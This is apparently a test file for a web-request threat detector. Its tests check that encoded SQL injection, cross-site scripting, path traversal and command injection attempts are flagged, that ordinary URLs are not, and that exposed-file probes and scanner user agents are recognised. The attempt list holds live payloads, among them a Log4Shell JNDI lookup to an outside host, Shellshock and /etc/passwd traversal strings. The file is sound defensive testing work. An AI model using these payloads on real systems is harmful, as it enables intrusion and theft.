import assert from "node:assert/strict";
import fc from "fast-check";
import {
  COMMAND,
  injectionsOf,
  isFileProbe,
  mayBeInjected,
  plainTarget,
  scannerOf,
  SCRIPT,
  SQL,
  TRAVERSAL,
} from "../../../lib/detector/threat/request_probe.ts";

/** What is injected in a target as it is in a log. */
function found(target: string): number {
  const bytes = new TextEncoder().encode(target);
  return mayBeInjected(bytes, 0, bytes.length) ? injectionsOf(plainTarget(target)) : 0;
}

const ATTEMPTS: readonly (readonly [number, string])[] = [
  [SQL, "/search?q=1%27+OR+%271%27%3D%271"],
  [SQL, "/item?id=-1%20UNION%20ALL%20SELECT%201,2,3"],
  [SQL, "/item?id=1%2520and%25201%253D1"],
  [SQL, "/item?id=1;drop+table+orders"],
  [SQL, "/item?id=1%27/**/union/**/select/**/1"],
  [SQL, "/item?id=sleep(5)"],
  [SCRIPT, "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"],
  [SCRIPT, "/search?q=%22%20onmouseover%3Dprompt(9)"],
  [SCRIPT, "/x?next=javascript:alert(1)"],
  [TRAVERSAL, "/product/..%2f..%2f..%2fetc%2fpasswd"],
  [TRAVERSAL, "/a?page=..%252F..%252Fboot.ini"],
  [TRAVERSAL, "/a?page=/etc/passwd"],
  [TRAVERSAL, "/a?page=php://filter/resource=index"],
  [TRAVERSAL, "/a%5c..%5c..%5cwin.ini"],
  [COMMAND, "/ping?host=127.0.0.1;cat+/x"],
  [COMMAND, "/a?b=$(id)"],
  [COMMAND, "/a?x=${jndi:ldap://198.51.100.9/a}"],
  [COMMAND, "/cgi-bin/x?()%20{%20:;};"],
];

Deno.test("injectionsOf() finds attempts however they are encoded", () => {
  for (const [probe, target] of ATTEMPTS) assert((found(target) >> probe & 1) === 1, `${probe} in ${target}`);
});

Deno.test("injectionsOf() leaves what visitors ask for alone", () => {
  const usual = [
    ...["/", "/product/17?colour=red&size=l", "/search?q=salt+and+pepper", "/search?q=rock+%27n%27+roll"],
    ...[
      "/wiki/Select_(SQL)",
      "/search?q=union+jack",
      "/a?from=2026-03-01&to=2026-03-02",
      "/search?q=%E2%82%AC+5",
    ],
    ...[
      "/blog/2026/03/how-to-sleep",
      "/a?redirect=https%3A%2F%2Fshop.example%2Fcart",
      "/files/app-1.2.3..tar.gz",
    ],
    ...[
      "/style.css?v=1.2",
      "/a?b=c&id=5&ls=1",
      "/search?q=o%27brien",
      "/on-sale=1",
      "/search?q=black+or+white",
    ],
  ];
  assert.deepEqual(usual.filter((target) => found(target) !== 0), []);
});

Deno.test("plainTarget() decodes twice, and leaves what can't be decoded", () => {
  assert.equal(plainTarget("/A%252e%252E%2"), "/a..%2");
  assert.equal(plainTarget("/%u0027\\x3cb"), "/'<b");
  assert.equal(plainTarget("%"), "%");
  assert.equal(plainTarget("1%2B1+2"), "1+1 2");
});

Deno.test("isFileProbe() knows what is asked for only to see whether it was left open", () => {
  const probes = [
    "/.env",
    "/.git/config",
    "/backup.zip",
    "/config.php.bak",
    "/wp-admin/setup.php",
    "/server-status",
    "/db.sql",
  ];
  assert.deepEqual(probes.filter((path) => !isFileProbe(path)), []);
  const usual = [
    "/",
    "/index.html",
    "/.well-known/security.txt",
    "/product/17",
    "/downloads/app.zip",
    "/a/b.css",
    "/login",
  ];
  assert.deepEqual(usual.filter((path) => isFileProbe(path)), []);
});

Deno.test("scannerOf() leaves browsers and crawlers alone", () => {
  assert.equal(scannerOf("sqlmap/1.7#stable"), "sqlmap");
  const usual = ["Mozilla/5.0 (X11; Linux x86_64)", "Googlebot/2.1", "HealthCheck/1.1", "curl/8.5.0", ""];
  assert.deepEqual(usual.filter((agent) => scannerOf(agent) !== ""), []);
});

Deno.test("injectionsOf() takes time in proportion to length, whatever the target", () => {
  for (const piece of ["'", "<", "../", "%27", "(", "union ", "select ", "/*", "'or 1", ";", "{{", "a='"]) {
    const target = plainTarget(piece.repeat(100_000));
    assert(target.length <= 2048);
    injectionsOf(target); // a pattern that goes back over the text would not come to an end here
  }
});

Deno.test("plainTarget() and injectionsOf() take any text", () => {
  fc.assert(fc.property(fc.string({ unit: "binary", maxLength: 300 }), (target) => {
    const bits = injectionsOf(plainTarget(target));
    assert(bits >= 0 && bits < 16);
  }));
});
